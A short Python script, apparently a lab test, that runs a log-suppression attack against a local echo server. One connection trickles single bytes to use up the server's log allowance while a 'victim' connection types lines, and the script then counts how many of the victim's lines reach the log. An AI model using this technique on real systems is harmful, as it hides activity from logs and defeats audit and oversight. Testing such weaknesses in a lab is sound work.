#!/usr/bin/env python3
"""Log suppression: a client at 127.0.0.2 sends one byte at a time, each waiting for its echo,
to keep the server's log allowance empty; a classmate at 127.0.0.1 types a line every TYPE s.
Counts the classmate's `received` lines in the server's log (its stdout in the file LOG).
usage: log_hide.py PORT LOG [SECS=20] [TYPE=2]"""
import socket, sys, time

port, log = int(sys.argv[1]), sys.argv[2]
secs = float(sys.argv[3]) if len(sys.argv) > 3 else 20.0
typing = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
a = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=("127.0.0.2", 0))
v = socket.create_connection(("127.0.0.1", port), timeout=5)
vport = v.getsockname()[1]
start = time.monotonic()
nxt = start
typed = chunks = 0
while time.monotonic() - start < secs:
    a.send(b"x")
    a.recv(1)
    chunks += 1
    if time.monotonic() >= nxt:
        nxt += typing
        v.sendall(b"hello from the victim\n")
        v.recv(64)
        typed += 1
v.close(); a.close()
time.sleep(0.5)
lines = open(log, errors="replace").read().splitlines()
mine = [l for l in lines if f"127.0.0.1:{vport}" in l]
shown = [l for l in mine if l.startswith("received")]
print(f"attacker: {chunks} one-byte chunks in {secs:.0f} s; victim typed {typed} lines, "
      f"log shows {len(shown)}; log {sum(len(l)+1 for l in lines)} bytes")
for l in mine[-2:]:
    print("  ", l[:200])
